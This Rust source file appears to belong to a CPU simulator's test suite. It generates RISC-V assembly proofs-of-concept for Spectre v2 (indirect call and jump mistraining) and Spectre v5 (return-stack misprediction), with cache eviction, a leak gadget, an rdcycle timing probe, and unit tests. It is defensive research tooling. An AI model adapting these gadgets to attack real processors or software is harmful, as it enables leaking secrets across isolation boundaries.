//! Assembly generators for the three proofs-of-concept.
//!
//! Every fixture shares a data layout and two guest routines: `evict`, which
//! walks an eviction buffer of `4 * ways` blocks per cache set, and a reload
//! loop that times one load of `array2[c * block_bytes]` per candidate byte
//! and stores the delta at `results[c]`. The harness writes the secret
//! position to `targetPos` before the run and reads `results` after halt.

use std::fmt::Write;

use super::{AttackError, PocKind, PocVariant};
use crate::asm::{parse_unit, AsmUnit};
use crate::sim::MachineConfig;

/// Number of candidate bytes probed by the reload loop.
pub const CANDIDATES: u64 = 256;

/// Blocks touched by `evict`: four times the ways of every set.
pub fn eviction_blocks(cfg: &MachineConfig) -> u64 {
    4 * cfg.cache_ways * cfg.cache_sets
}

/// Generates the fixture for `variant` on a machine shaped like `cfg`.
pub fn build_poc(variant: &PocVariant, cfg: &MachineConfig) -> Result<AsmUnit, AttackError> {
    Ok(parse_unit(&poc_source(variant, cfg)?)?)
}

/// The fixture as assembly text.
pub fn poc_source(variant: &PocVariant, cfg: &MachineConfig) -> Result<String, AttackError> {
    variant.validate()?;
    if !cfg.block_bytes.is_power_of_two() {
        return Err(AttackError::BlockSize(cfg.block_bytes));
    }
    let shift = cfg.block_shift();
    let mut s = String::from("    .text\n    .globl main\n");
    match variant.kind {
        PocKind::V2Call => v2_call(&mut s, variant.mistrain_count, shift),
        PocKind::V2Jump => v2_jump(&mut s, variant.mistrain_count, shift),
        PocKind::V5 => v5(&mut s, shift),
    }
    evict(&mut s, cfg);
    data(&mut s, &variant.secret, cfg);
    Ok(s)
}

/// Sets `passInIdx` to `secretString - array1 + targetPos`.
const POINT_AT_SECRET: &str = "\
    la t0, targetPos
    ld t0, 0(t0)
    la t1, secretString
    add t1, t1, t0
    la t2, array1
    sub t1, t1, t2
    la t0, passInIdx
    sd t1, 0(t0)
";

/// Training and attack loop shared by both v2 fixtures: `mistrain` rounds
/// with an in-bounds index and `a5` at the victim, then one round after
/// eviction with the secret index and `a5` at the harmless target.
fn v2_loop(s: &mut String, mistrain: u32, victim: &str, want: &str) {
    let _ = write!(
        s,
        "\
main:
    li s2, 0
    li s4, 0
loop:
    li t0, {mistrain}
    beq s2, t0, attack
    la t0, passInIdx
    sd s4, 0(t0)
    la a5, {victim}
    j dispatch
attack:
    call evict
{POINT_AT_SECRET}    la a5, {want}
dispatch:
"
    );
}

fn v2_loop_tail(s: &mut String, mistrain: u32) {
    let _ = write!(
        s,
        "\
    addi s2, s2, 1
    addi s4, s4, 1
    li t0, 10
    bne s4, t0, wrapped
    li s4, 0
wrapped:
    li t0, {rounds}
    blt s2, t0, loop
",
        rounds = u64::from(mistrain) + 1
    );
}

/// `t1 = array2[array1[passInIdx] << shift]`, clobbering t0, t1 and `base`.
fn gadget(s: &mut String, shift: u32, base: &str) {
    let _ = write!(
        s,
        "\
    la t0, passInIdx
    ld t0, 0(t0)
    la t1, array1
    add t1, t1, t0
    lbu t1, 0(t1)
    slli t1, t1, {shift}
    la {base}, array2
    add t1, t1, {base}
    lbu t1, 0(t1)
"
    );
}

fn v2_call(s: &mut String, mistrain: u32, shift: u32) {
    v2_loop(s, mistrain, "victimFunc", "wantFunc");
    s.push_str("    jalr a5\n");
    v2_loop_tail(s, mistrain);
    reload(s, shift);
    s.push_str(
        "\
    .type victimFunc, @function
victimFunc:
    addi sp, sp, -32
    sd ra, 24(sp)
    sd fp, 16(sp)
    addi fp, sp, 32
    sd s1, 8(sp)
",
    );
    gadget(s, shift, "s1");
    s.push_str(
        "\
    ld s1, 8(sp)
    ld ra, 24(sp)
    ld fp, 16(sp)
    addi sp, sp, 32
    ret
    .type wantFunc, @function
wantFunc:
    addi sp, sp, -16
    sd ra, 8(sp)
    sd fp, 0(sp)
    addi fp, sp, 16
    ld ra, 8(sp)
    ld fp, 0(sp)
    addi sp, sp, 16
    ret
",
    );
}

fn v2_jump(s: &mut String, mistrain: u32, shift: u32) {
    v2_loop(s, mistrain, "victimSnippet", "wantSnippet");
    s.push_str("    jr a5\n    .globl end\nend:\n");
    v2_loop_tail(s, mistrain);
    reload(s, shift);
    s.push_str("victimSnippet:\n");
    gadget(s, shift, "t2");
    s.push_str("    j end\nwantSnippet:\n    j end\n");
}

/// `specFunc` calls `frameDump`, which reloads the stacked ra and pops the
/// frame, so its return skips the gadget that the RAS still points at.
fn v5(s: &mut String, shift: u32) {
    let _ = write!(
        s,
        "\
main:
    call evict
    la t0, targetPos
    ld t0, 0(t0)
    la a0, secretString
    add a0, a0, t0
    call specFunc
"
    );
    reload(s, shift);
    let _ = write!(
        s,
        "\
    .type specFunc, @function
specFunc:
    addi sp, sp, -64
    sd ra, 56(sp)
    sd fp, 48(sp)
    addi fp, sp, 64
    call frameDump
    lbu t0, 0(a0)
    slli t0, t0, {shift}
    la t1, array2
    add t0, t0, t1
    lbu t0, 0(t0)
    ld ra, 56(sp)
    ld fp, 48(sp)
    addi sp, sp, 64
    ret
frameDump:
    ld ra, 56(sp)
    ld fp, 48(sp)
    addi sp, sp, 64
    ret
"
    );
}

/// Times one load per candidate with registers only, so the loop itself
/// fills nothing but `array2` and `results` lines.
fn reload(s: &mut String, shift: u32) {
    let _ = write!(
        s,
        "\
reload:
    la s5, array2
    la s6, results
    li s7, 0
    li s8, {CANDIDATES}
probe:
    slli t0, s7, {shift}
    add t0, t0, s5
    rdcycle t1
    lbu t2, 0(t0)
    rdcycle t3
    sub t3, t3, t1
    slli t4, s7, 3
    add t4, t4, s6
    sd t3, 0(t4)
    addi s7, s7, 1
    blt s7, s8, probe
    li a0, 0
    li a7, 93
    ecall
"
    );
}

fn evict(s: &mut String, cfg: &MachineConfig) {
    let _ = write!(
        s,
        "\
evict:
    la t0, evictBuf
    li t1, {count}
    li t3, {block}
evict_next:
    lbu t2, 0(t0)
    add t0, t0, t3
    addi t1, t1, -1
    bnez t1, evict_next
    ret
",
        count = eviction_blocks(cfg),
        block = cfg.block_bytes,
    );
}

fn data(s: &mut String, secret: &[u8], cfg: &MachineConfig) {
    let block = cfg.block_bytes;
    let _ = write!(
        s,
        "\
    .data
    .balign 8
passInIdx:
    .dword 0
targetPos:
    .dword 0
array1:
    .byte 1, 2, 3, 4, 5, 6, 7, 8, 9, 10
secretString:
    .string \"{secret}\"
    .balign {block}
array2:
    .zero {array2}
evictBuf:
    .zero {evict}
results:
    .zero {results}
",
        secret = escape(secret),
        array2 = CANDIDATES * block,
        evict = eviction_blocks(cfg) * block,
        results = CANDIDATES * 8,
    );
}

fn escape(secret: &[u8]) -> String {
    secret
        .iter()
        .map(|&b| match b {
            b'"' => "\\\"".to_string(),
            b'\\' => "\\\\".to_string(),
            _ => (b as char).to_string(),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::asm::{layout, print_unit, IsaProfile};

    fn variant(kind: PocKind) -> PocVariant {
        PocVariant::new(kind)
    }

    #[test]
    fn fixtures_parse_and_lay_out() {
        for kind in PocKind::ALL {
            let u = build_poc(&variant(kind), &MachineConfig::default()).unwrap();
            let map = layout(&u, IsaProfile::Rv64gc).unwrap();
            for sym in [
                "array1",
                "array2",
                "secretString",
                "evictBuf",
                "results",
                "targetPos",
            ] {
                assert!(map.symbol(sym).is_some(), "{kind:?} lacks {sym}");
            }
            assert_eq!(map.symbol("array2").unwrap() % 64, 0);
            let evict = map.symbol("results").unwrap() - map.symbol("evictBuf").unwrap();
            assert_eq!(evict, 4 * 4 * 64 * 64);
        }
    }

    #[test]
    fn v2_jump_resumes_at_global_end() {
        let u = build_poc(&variant(PocKind::V2Jump), &MachineConfig::default()).unwrap();
        let text = print_unit(&u);
        let jr = text.find("jr a5").unwrap();
        let end = text.find("end:").unwrap();
        assert!(jr < end);
        assert!(text.contains(".globl end"));
        assert_eq!(text.matches("j end").count(), 2);
    }

    #[test]
    fn v5_frame_dump_shape() {
        let src = poc_source(&variant(PocKind::V5), &MachineConfig::default()).unwrap();
        let body = &src[src.find("frameDump:\n").unwrap()..];
        let lines: Vec<&str> = body.lines().skip(1).take(4).map(str::trim).collect();
        assert_eq!(
            lines,
            ["ld ra, 56(sp)", "ld fp, 48(sp)", "addi sp, sp, 64", "ret"]
        );
    }

    #[test]
    fn shift_follows_block_size() {
        let cfg = MachineConfig {
            block_bytes: 32,
            ..MachineConfig::default()
        };
        let src = poc_source(&variant(PocKind::V2Call), &cfg).unwrap();
        assert!(src.contains("slli t1, t1, 5"));
        assert!(src.contains(&format!(".zero {}", 256 * 32)));
    }

    #[test]
    fn rejects_bad_inputs() {
        let cfg = MachineConfig {
            block_bytes: 48,
            ..MachineConfig::default()
        };
        assert!(matches!(
            build_poc(&variant(PocKind::V5), &cfg),
            Err(AttackError::BlockSize(48))
        ));
        let mut v = variant(PocKind::V5);
        v.secret.clear();
        assert!(matches!(
            build_poc(&v, &MachineConfig::default()),
            Err(AttackError::EmptySecret)
        ));
        v.secret = b"a\x01".to_vec();
        assert!(matches!(
            build_poc(&v, &MachineConfig::default()),
            Err(AttackError::NonPrintable(1))
        ));
    }

    #[test]
    fn secret_quotes_escaped() {
        let mut v = variant(PocKind::V5);
        v.secret = br#"a"b\c"#.to_vec();
        let u = build_poc(&v, &MachineConfig::default()).unwrap();
        let map = layout(&u, IsaProfile::Rv64gc).unwrap();
        let image = crate::asm::data_image(&u, &map).unwrap();
        let at = (map.symbol("secretString").unwrap() - image.base) as usize;
        assert_eq!(&image.bytes[at..at + 6], b"a\"b\\c\0");
    }
}
